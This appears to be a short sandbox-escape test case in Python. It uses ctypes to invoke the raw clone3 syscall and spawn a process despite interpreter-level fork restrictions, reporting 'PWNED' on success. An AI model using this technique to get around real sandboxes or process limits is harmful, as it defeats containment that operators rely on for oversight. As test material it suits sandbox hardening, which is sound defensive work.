# attack: clone3
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: dos-fork
# success: a process by the newest call for it
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

import os
def run():
    arguments = (ctypes.c_uint64 * 11)()
    arguments[4] = 17
    pid = libc.syscall(435, arguments, 88)
    if pid == 0:
        os._exit(0)
    return "PWNED" if pid > 0 else "refused errno %d" % ctypes.get_errno()
